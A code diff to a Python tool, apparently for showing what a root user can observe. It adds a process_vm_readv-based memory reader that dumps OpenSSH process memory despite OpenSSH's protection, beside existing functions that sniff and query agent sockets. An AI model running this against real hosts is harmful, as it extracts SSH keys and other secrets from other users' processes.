@@ -2,12 +2,13 @@
 
 python what_root_sees.py hear SOCKET FILE   write down what goes through the socket of an agent, from now on
 python what_root_sees.py ask SOCKET BLOB    send every request that there can be; print what is answered, in hex
-python what_root_sees.py look PROGRAM       print the memory of all processes of a program, in hex
+python what_root_sees.py look PROGRAM       print the memory of all processes of programs whose names begin so, in hex
 """
 
 from __future__ import annotations
 
 import contextlib
+import ctypes
 import os
 import re
 import socket
@@ -61,15 +62,32 @@ def ask(place: str, blob: str) -> None:
 def look(program: str) -> None:
     """Read what processes have in their memory."""
     for process in Path("/proc").glob("[0-9]*"):
-        if (process / "comm").read_text() != f"{program}\n":
+        if not (process / "comm").read_text().startswith(program):
             continue
-        with (process / "mem").open("rb", buffering=0) as memory:
-            for line in (process / "maps").read_text().splitlines():
-                match = re.match(r"(\w+)-(\w+) rw.. .*?(?!\[v)\S*$", line)
-                if match:
-                    first, last = (int(number, 16) for number in match.groups())
-                    memory.seek(first)
-                    print(memory.read(last - first).hex())
+        for line in (process / "maps").read_text().splitlines():
+            match = re.match(r"(\w+)-(\w+) rw.. .*?(?!\[v)\S*$", line)
+            if match:
+                first, last = (int(number, 16) for number in match.groups())
+                print(_memory(int(process.name), first, last - first).hex())
+
+
+class _Part(ctypes.Structure):
+    _fields_ = (("start", ctypes.c_void_p), ("size", ctypes.c_size_t))
+
+
+def _memory(process: int, start: int, size: int) -> bytes:
+    """Read a part of the memory of a process, by the right to trace it.
+
+    OpenSSH asks the system to hide some of its processes. Then `/proc/PID/mem` is the computer's root's, whom this root
+    is not; but the computer's root could trace the process, and so can this one.
+    """
+    buffer = ctypes.create_string_buffer(size)
+    here, there = _Part(ctypes.addressof(buffer), size), _Part(start, size)
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.process_vm_readv.restype = ctypes.c_ssize_t
+    if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) != size:
+        raise OSError(ctypes.get_errno(), f"memory of process {process}")
+    return buffer.raw
 
 
 if __name__ == "__main__":
